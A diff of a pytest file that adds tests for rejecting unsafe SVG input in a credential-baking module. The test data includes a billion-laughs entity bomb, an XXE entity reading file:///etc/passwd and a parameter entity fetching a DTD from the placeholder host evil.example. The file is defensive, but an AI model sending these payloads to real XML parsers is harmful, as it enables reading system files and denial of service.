@@ -59,10 +59,6 @@ def test_a_png_baked_by_another_tool_is_read():
             "bake.png_corrupt",
         ),
         (b"GIF89a....", "bake.unknown_format"),
-        (
-            b'<!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
-            "bake.not_svg",
-        ),
         (b'<svg xmlns="http://www.w3.org/2000/svg"></svg>', "bake.none"),
         (b"<html></html>", "bake.not_svg"),
     ],
@@ -77,3 +73,54 @@ def test_a_png_without_a_credential():
     with pytest.raises(DocumentError) as caught:
         baking.extract(_png())
     assert caught.value.code == "bake.none"
+
+
+DOCTYPE = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
+    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
+    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
+)
+
+
+def test_svg_with_a_standard_doctype_is_read():
+    text = json.dumps(signed())
+    baked = baking.bake_svg(DOCTYPE + SVG.split("\n", 1)[1], text)
+    assert baked.startswith(DOCTYPE)
+    assert baking.extract(baked.encode()) == text
+
+
+@pytest.mark.parametrize(
+    ("subset", "code", "words"),
+    [
+        (  # billion laughs
+            '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">',
+            "bake.svg_entities",
+            "entity 'a'",
+        ),
+        ('<!ENTITY x SYSTEM "file:///etc/passwd">', "bake.svg_entities", "file:///etc/passwd"),
+        ('<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;', "bake.svg_entities", "'p'"),
+        ('<!ATTLIST svg class CDATA "x">', "bake.svg_dtd_subset", "internal subset"),
+    ],
+)
+def test_svg_dtd_subsets_and_entities_are_refused(subset, code, words):
+    svg = (
+        f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd" [{subset}]>'
+        '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>'
+    )
+    with pytest.raises(DocumentError) as caught:
+        baking.extract(baking.bake_svg(svg, json.dumps(signed())).encode())
+    assert caught.value.code == code
+    assert words in caught.value.message
+
+
+def test_svg_doctype_is_never_fetched(tmp_path):
+    dtd = tmp_path / "x.dtd"
+    dtd.write_text('<!ENTITY pwned "from the DTD">')
+    svg = (
+        f'<!DOCTYPE svg SYSTEM "{dtd.as_uri()}">'
+        '<svg xmlns="http://www.w3.org/2000/svg"><text>&pwned;</text></svg>'
+    )
+    with pytest.raises(DocumentError) as caught:
+        baking.extract(svg.encode())
+    assert caught.value.code == "bake.not_svg"
+    assert "undefined entity" in caught.value.message
